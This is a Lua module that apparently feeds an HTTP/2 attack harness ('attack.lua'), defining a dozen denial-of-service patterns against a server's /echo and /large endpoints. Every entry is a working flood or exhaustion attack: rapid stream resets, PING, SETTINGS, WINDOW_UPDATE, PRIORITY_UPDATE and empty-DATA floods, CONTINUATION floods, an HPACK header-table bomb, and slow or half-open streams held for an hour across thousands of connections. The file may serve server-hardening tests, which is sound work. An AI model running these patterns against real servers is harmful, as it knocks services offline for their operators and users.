--- Attacks over HTTP/2, for attack.lua.
--
--   name -> { size = connections, every = seconds, bytes = function from a connection to what it sends then,
--             settings = of the client }
--
-- `c.stream` is the number of the connection's last stream, so that the same bytes can be sent on new ones.

local h2 = require("support.h2")

local ENDS, OPEN = 5, 4 -- END_STREAM and END_HEADERS, or END_HEADERS alone
local GET, LARGE, POST = h2.block(h2.get("/echo")), h2.block(h2.get("/large")), h2.block(h2.post("/echo"))

local function next_stream(c)
  c.stream = (c.stream or -1) + 2
  return c.stream
end

-- `count` times what `make` gives, on streams that are new.
local function on_streams(count, make)
  return function(c)
    local out = {}
    for i = 1, count do out[i] = make(next_stream(c)) end
    return table.concat(out)
  end
end

-- The same bytes each time; `first` goes before them once.
local function again(first, bytes)
  local begun = {}
  setmetatable(begun, { __mode = "k" })
  return function(c)
    if begun[c] then return bytes end
    begun[c] = true
    return first .. bytes
  end
end

-- A request that goes well, then those that `bytes` gives, once.
local function after_a_good_one(bytes)
  return function(c)
    if not c.stream then return h2.frame("HEADERS", ENDS, next_stream(c), GET) end
    return c.stream == 1 and bytes(c) or ""
  end
end

local OPEN_POST = h2.frame("HEADERS", OPEN, 1, POST)
-- A field of 3,000 bytes goes into the table, and is named by a byte each, ten thousand times.
local BOMB = GET .. "\64\1x\127\185\22" .. ("a"):rep(3000) .. ("\190"):rep(10000)

return {
  h2_rapid_resets = { size = 50, every = 0.01, bytes = on_streams(50, function(stream)
    return h2.frame("HEADERS", ENDS, stream, GET) .. h2.frame("RST_STREAM", 0, stream, "\0\0\0\8")
  end) },
  h2_pings = { size = 50, every = 0.01, bytes = again("", h2.frame("PING", 0, 0, "12345678"):rep(200)) },
  h2_settings = { size = 50, every = 0.01, bytes = again("", h2.frame("SETTINGS", 0, 0, ""):rep(200)) },
  h2_empty_data = { size = 50, every = 0.01, bytes = again(OPEN_POST, h2.frame("DATA", 0, 1, ""):rep(200)) },
  h2_windows = { size = 50, every = 0.01,
                 bytes = again("", h2.frame("WINDOW_UPDATE", 0, 0, "\0\0\0\1"):rep(200)) },
  h2_priorities = { size = 50, every = 0.01,
                    bytes = again("", h2.frame("PRIORITY_UPDATE", 0, 0, "\0\0\0\1u=1,i"):rep(200)) },
  h2_continuations = { size = 50, every = 0.01, bytes = again(h2.frame("HEADERS", 1, 1, GET),
                                                              h2.frame("CONTINUATION", 0, 1, ""):rep(5)) },
  h2_half_heads = { size = 2000, every = 3600, bytes = again("", h2.frame("HEADERS", 1, 1, GET)) },
  h2_header_bombs = { size = 50, every = 0.05, bytes = on_streams(1, function(stream)
    return h2.frame("HEADERS", ENDS, stream, BOMB)
  end) },
  h2_open_streams = { size = 200, every = 3600, bytes = on_streams(100, function(stream)
    return h2.frame("HEADERS", OPEN, stream, POST)
  end) },
  h2_proven_streams = { size = 200, every = 0.2, bytes = after_a_good_one(on_streams(99, function(stream)
    return h2.frame("HEADERS", OPEN, stream, POST)
  end)) },
  h2_small_windows = { size = 200, every = 3600, settings = { [4] = 1 },
                       bytes = on_streams(50, function(stream)
    return h2.frame("HEADERS", ENDS, stream, LARGE)
  end) },
}
